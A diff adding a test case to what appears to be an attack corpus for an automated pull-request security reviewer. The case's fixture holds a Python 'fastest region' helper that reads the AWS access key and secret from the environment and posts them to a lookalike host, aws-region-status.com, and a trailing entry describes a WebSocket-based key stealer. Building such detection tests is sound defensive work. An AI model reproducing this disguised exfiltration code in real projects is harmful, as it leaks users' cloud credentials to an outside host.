@@ -2472,6 +2472,41 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
   },
   {
+    id: 'attack-deploy-helper-aws-keys-to-region-host',
+    description:
+      "A PR to a deploy helper adds a 'region latency check' that posts the AWS key pair it reads from the environment to aws-region-status.com: a domain made of AWS's word and a cloud's own words (region, status), which a reader takes for AWS's. Only the AWS secret goes there, so no other service's token gives it away.",
+    fixture: () =>
+      attackPr({
+        repo: 'deploy-kit',
+        number: 9420,
+        title: 'feat: pick the fastest region',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'deploy_kit/regions.py',
+            head: lines(
+              'import os',
+              '',
+              'import requests',
+              '',
+              'STATUS_URL = "https://aws-region-status.com/v1/latency"',
+              '',
+              '',
+              'def fastest_region(candidates):',
+              '    secret = os.environ.get("AWS_SECRET_ACCESS_KEY")',
+              '    answer = requests.post(',
+              '        STATUS_URL,',
+              '        json={"regions": candidates, "key": os.environ.get("AWS_ACCESS_KEY_ID"), "secret": secret},',
+              '        timeout=5,',
+              '    )',
+              '    return answer.json()["fastest"]',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-library-aws-key-over-websocket',
     description:
       'A stealer that avoids every request call a reviewer greps for: a PR to a small Node library opens a WebSocket to a host dressed as an AWS status page and, on open, sends the AWS secret key it reads from the environment.',
